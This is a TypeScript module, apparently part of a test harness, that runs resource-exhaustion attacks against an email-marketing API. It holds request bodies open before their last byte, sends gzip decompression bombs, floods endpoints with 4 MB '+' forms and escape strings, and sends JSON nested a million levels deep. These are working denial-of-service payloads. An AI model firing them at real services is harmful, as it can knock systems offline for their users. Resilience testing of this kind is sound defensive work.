import { request } from 'node:http';
import { gzipSync } from 'node:zlib';
import type { Attack, AttackCalls, Attacker } from './attack.ts';

const MEGABYTE = 2 ** 20;
/** Connections that hold a body, that send small ones, and that send costly ones. */
const [HOLDING, SMALL, COSTLY] = [60, 100, 4];
const BREATH_MS = 1000;
/** Milliseconds for which a body is held. */
const HELD_MS = 30_000;

const JSON_TYPE = 'application/json';
const FORM_TYPE = 'application/x-www-form-urlencoded';
const DEEP = 1_000_000;

type Sent = readonly [path: string, type: string, body: Buffer, coding?: string];

/** Bodies that are large, or that cost much to read: compressed ones, forms of `+`, escapes, and deep designs. */
function bodies(): Readonly<Record<'compressed' | 'costly', readonly Sent[]>> {
  const name = (bytes: number): string => JSON.stringify({ name: 'a'.repeat(bytes) });
  const nested = `{"mjml":"<mjml></mjml>","x":${'['.repeat(DEEP)}${']'.repeat(DEEP)}}`;
  return {
    compressed: [
      ['/contacts-type/add', JSON_TYPE, gzipSync(name(10 * MEGABYTE - 100)), 'gzip'],
      ['/contacts-type/add', FORM_TYPE, gzipSync(`name=${'+'.repeat(10 * MEGABYTE - 100)}`), 'gzip'],
    ],
    costly: [
      [
        '/global-unsubscribes/save',
        FORM_TYPE,
        Buffer.from(`email_address=${'+'.repeat(4 * MEGABYTE - 100)}`),
      ],
      ['/templates/save', JSON_TYPE, Buffer.from(`{"template_name":"${'\\"'.repeat(2 * MEGABYTE)}"}`)],
      [
        '/templates/save',
        JSON_TYPE,
        Buffer.from(JSON.stringify({ template_name: 'Deep', template_json: nested })),
      ],
      ['/contacts-type/add', JSON_TYPE, Buffer.from(`{"name":${'['.repeat(30_000)}`)],
    ],
  };
}

/** Sends all of a body but its last byte, and waits for the answer. */
function hold(
  { origin, public_key, secret_key }: Attacker,
  path: string,
  body: Buffer,
  over: AbortSignal,
): Promise<void> {
  return new Promise((resolve) => {
    const sending = request(`${origin}/api${path}`, {
      method: 'POST',
      agent: false,
      signal: over,
      timeout: HELD_MS,
      headers: {
        PublicKey: public_key,
        SecretKey: secret_key,
        'Content-Type': JSON_TYPE,
        'Content-Length': body.length,
      },
    });
    sending.on('response', (answer) => answer.resume());
    sending.on('timeout', () => sending.destroy());
    sending.on('error', () => {});
    sending.once('close', resolve);
    sending.write(body.subarray(0, -1));
  });
}

const send = (calls: AttackCalls, { public_key, secret_key }: Attacker, [path, type, body, coding]: Sent) =>
  calls.call(`/api${path}`, {
    method: 'POST',
    body: new Uint8Array(body),
    headers: {
      PublicKey: public_key,
      SecretKey: secret_key,
      'Content-Type': type,
      ...(coding && { 'Content-Encoding': coding }),
    },
  });

export const largeBodies: Attack = {
  name: 'bodies',
  what: `${HOLDING} bodies held before their last byte, ${SMALL} compressed ones at once, forms of +, escapes, deep designs`,
  async run(calls, attacker) {
    const held = Buffer.from(JSON.stringify({ template_name: 'a'.repeat(5 * MEGABYTE - 100) }));
    const { compressed, costly } = bodies();
    await Promise.all([
      calls.again(HOLDING, () => hold(attacker, '/templates/save', held, calls.over), BREATH_MS),
      calls.again(SMALL, (at) => send(calls, attacker, compressed[at % compressed.length]!), BREATH_MS),
      calls.again(COSTLY, (at) => send(calls, attacker, costly[at % costly.length]!)),
    ]);
  },
};
